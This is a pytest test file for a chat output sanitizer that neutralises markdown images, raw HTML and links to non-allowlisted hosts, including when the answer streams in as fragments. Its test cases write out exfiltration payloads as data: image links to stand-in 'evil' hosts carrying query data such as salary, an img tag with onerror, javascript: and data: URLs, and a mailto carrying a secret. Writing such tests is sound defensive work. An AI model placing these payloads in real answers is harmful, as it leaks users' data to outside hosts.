"""Nothing in an answer loads, leads away or is HTML, however it was written and cut into tokens."""

import random
import re
from typing import Any

import pytest
from markdown_it import MarkdownIt

from chat.generation.addresses import Addresses
from chat.generation.outgoing import REMOVED, Outgoing, disarmed

ALLOWED = Addresses(
    frozenset({"ok.example", ".sub.example"}), frozenset({"https://doc.example/form"})
)
# A stranger's renderer: HTML is on, and so are references and images.
STRANGERS = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
ATOMS = [
    "[", "]", "(", ")", "!", "![", "](", "https://evil/x", "http", "s://evil/y", "://e",
    "www.evil.com", "`", "``", "```", "~~~", "\n", "\n\n", " ", "    ", "- ", "> ", "1. ", "|",
    "| - | - |\n", "<", "<img src='https://evil/z'>", "<a href=x>", "]:", ": ", "//evil/q", "\\",
    "a", "b c", "\t", "[1]", "[x]", "[x]: ", "&lt;", "&#60;", "javascript:x", "data:a", "*", "_",
    "https://ok.example/p", "#", "<!--", "-->", '"t"', "'", "mailto:a@b.c?body=x",
]  # fmt: skip


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![chart](https://evil/?q=salary) here.", "See chart here."),
        ("Ask [us](https://evil/x?q=1).", "Ask us."),
        ("Go to https://evil/x?q=1, then", f"Go to {REMOVED}, then"),
        ("Go to <https://evil/x>", f"Go to {REMOVED}"),
        ("Go to www.evil.com now", f"Go to {REMOVED} now"),
        ("[a](//evil/x) [b](javascript:alert) [c](data:text/html,x)", "a b c"),
        ("[mail](mailto:a@b.example?body=secret)", "mail"),
        ("The [form](https://doc.example/form).", "The form `https://doc.example/form`."),
        ("At https://doc.example/form.", "At `https://doc.example/form`."),
        ("At https://doc.example/form?q=salary", f"At {REMOVED}"),
        ("[ok](https://ok.example/p?a=b)", "[ok](https://ok.example/p?a=b)"),
        ("[ok](https://a.sub.example/p)", "[ok](https://a.sub.example/p)"),
        ("[no](https://ok.example.evil/p)", "no"),
        ("[no](https://ok.example@evil/p)", "no"),
        ("[x]: https://evil/x\n\n[x]", f"[x]\\: {REMOVED}\n\n[x]"),
        ("<img src=https://evil/x onerror=a()>", f"\\<img src={REMOVED} onerror=a()>"),
        ("2 < 3 and a<b", "2 < 3 and a\\<b"),
        ("`<b> ![x](https://e)` is code", "`<b> ![x](https://e)` is code"),
        ("```\n![x](https://e)\n```\nend", "```\n![x](https://e)\n```\nend"),
        ("At 10:30: weeks 1 to 18 [1].", "At 10:30: weeks 1 to 18 [1]."),
    ],
)
def test_what_leads_away_becomes_words(written: str, shown: str) -> None:
    assert disarmed(written, ALLOWED) == shown


def test_ordinary_markdown_is_left_as_it_is() -> None:
    text = (
        "## Leave\n\nYou may take **52 weeks**, *at most*:\n\n- in one block\n- in two\n\n"
        "| Weeks | Pay |\n| --- | --- |\n| 1 | full |\n\n> quoted\n\n```python\nx = [1](2)\n```\n"
    )
    assert disarmed(text) == text


def live(html: Any) -> list[str]:
    """What of rendered Markdown is an image, HTML, or a link to somewhere not allowed."""
    found = []
    for token in [inner for outer in html for inner in [outer, *(outer.children or [])]]:
        if token.type in {"image", "html_inline", "html_block"}:
            found.append(token.type)
        if token.type == "link_open" and not str(token.attrs["href"]).startswith("https://ok."):
            found.append(str(token.attrs["href"]))
        if token.type == "text":
            addresses = re.findall(r"(?:https?://|(?<![A-Za-z0-9])www\.)\S*", token.content)
            found += [one for one in addresses if not one.startswith("https://ok.example/")]
    return found


@pytest.mark.parametrize("seed", range(6))
def test_no_mixture_of_signs_gets_through_and_no_cut_changes_what_is_shown(seed: int) -> None:
    draw = random.Random(seed)
    for _ in range(400):
        text = "".join(draw.choice(ATOMS) for _ in range(draw.randint(2, 16)))
        whole = disarmed(text, ALLOWED)
        outgoing = Outgoing(ALLOWED)
        parts, at = [], 0
        while at < len(text):
            step = draw.randint(1, 4)
            parts.append(outgoing.feed(text[at : at + step]))
            at += step
        assert "".join([*parts, outgoing.close()]) == whole, text
        assert live(STRANGERS.parse(whole)) == [], text


@pytest.mark.parametrize("sign", ["[", "![", "`", "<", "](", "https://", "a`", "[a](", "~~~\n"])
def test_a_hostile_answer_takes_no_more_time_than_an_honest_one(sign: str) -> None:
    outgoing = Outgoing(ALLOWED)
    for _ in range(20_000 // len(sign)):
        outgoing.feed(sign)
    outgoing.close()
